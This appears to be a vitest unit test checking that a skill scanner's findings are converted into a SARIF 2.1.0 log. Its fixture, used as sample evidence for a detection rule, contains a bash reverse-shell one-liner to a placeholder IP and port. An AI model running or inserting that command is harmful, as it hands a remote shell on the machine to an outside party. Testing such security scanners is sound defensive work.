import { pathToFileURL } from 'node:url'
import { describe, expect, it } from 'vitest'
import type { ScanReport } from '../../../../../src-main/contract/models'
import { toSarif } from '../../../../../src-main/core/trust/scanner'

const report: ScanReport = {
  risk: 'CRITICAL',
  status: 'complete',
  fingerprint: 'sha256:abc',
  scannedAt: '2025-01-02T03:04:05.000Z',
  findings: [
    {
      rule: 'script.reverse-shell',
      severity: 'CRITICAL',
      file: 'scripts/set up.sh',
      line: 5,
      message: 'Opens a reverse shell.',
      evidence: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
    },
    {
      rule: 'folder.hidden-file',
      severity: 'MEDIUM',
      file: '.env',
      line: null,
      message: 'Is a hidden file.',
      evidence: '.env',
    },
    {
      rule: 'script.reverse-shell',
      severity: 'HIGH',
      file: 'scripts/b.sh',
      line: 1,
      message: 'x',
      evidence: 'y',
    },
  ],
}

interface SarifShape {
  $schema: string
  version: string
  runs: {
    tool: {
      driver: {
        name: string
        rules: {
          id: string
          shortDescription: { text: string }
          defaultConfiguration: { level: string }
          properties: Record<string, unknown>
        }[]
      }
    }
    originalUriBaseIds: { SKILLROOT: { uri: string } }
    invocations: { executionSuccessful: boolean }[]
    results: {
      ruleId: string
      ruleIndex: number
      level: string
      message: { text: string }
      locations: {
        physicalLocation: {
          artifactLocation: { uri: string; uriBaseId: string }
          region?: { startLine: number; snippet: { text: string } }
        }
      }[]
    }[]
    properties: Record<string, unknown>
  }[]
}

describe('toSarif', () => {
  const sarif = toSarif(report, 'shady-skill', '/skills/shady skill') as SarifShape
  const run = sarif.runs[0]

  it('is a SARIF 2.1.0 log with one run of the SkillDock scanner', () => {
    expect(sarif.version).toBe('2.1.0')
    expect(sarif.$schema).toContain('sarif-2.1.0')
    expect(sarif.runs).toHaveLength(1)
    expect(run?.tool.driver.name).toBe('SkillDock skill scanner')
    expect(run?.properties).toMatchObject({
      skill: 'shady-skill',
      risk: 'CRITICAL',
      fingerprint: 'sha256:abc',
    })
    expect(run?.invocations[0]?.executionSuccessful).toBe(true)
  })

  it('lists each rule that fired once, at its worst severity, with a title and security severity', () => {
    expect(run?.tool.driver.rules.map((r) => r.id)).toEqual(['folder.hidden-file', 'script.reverse-shell'])
    const shell = run?.tool.driver.rules[1]
    expect(shell?.shortDescription.text).toBe('Script opens a reverse shell')
    expect(shell?.defaultConfiguration.level).toBe('error')
    expect(shell?.properties['security-severity']).toBe('9.5')
  })

  it('gives each finding a result with level, message and a location relative to the skill folder', () => {
    expect(run?.originalUriBaseIds.SKILLROOT.uri).toBe(pathToFileURL('/skills/shady skill').href + '/')
    const [first, second] = run?.results ?? []
    expect(first).toMatchObject({ ruleId: 'script.reverse-shell', ruleIndex: 1, level: 'error' })
    expect(first?.message.text).toBe('Opens a reverse shell.')
    expect(first?.locations[0]?.physicalLocation).toEqual({
      artifactLocation: { uri: 'scripts/set%20up.sh', uriBaseId: 'SKILLROOT' },
      region: { startLine: 5, snippet: { text: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' } },
    })
    expect(second).toMatchObject({ ruleId: 'folder.hidden-file', level: 'warning' })
    expect(second?.locations[0]?.physicalLocation.region).toBeUndefined()
  })

  it('marks a needs-review scan as not fully successful', () => {
    const partial = toSarif({ ...report, status: 'needs-review' }, 's', '/x') as SarifShape
    expect(partial.runs[0]?.invocations[0]?.executionSuccessful).toBe(false)
  })
})
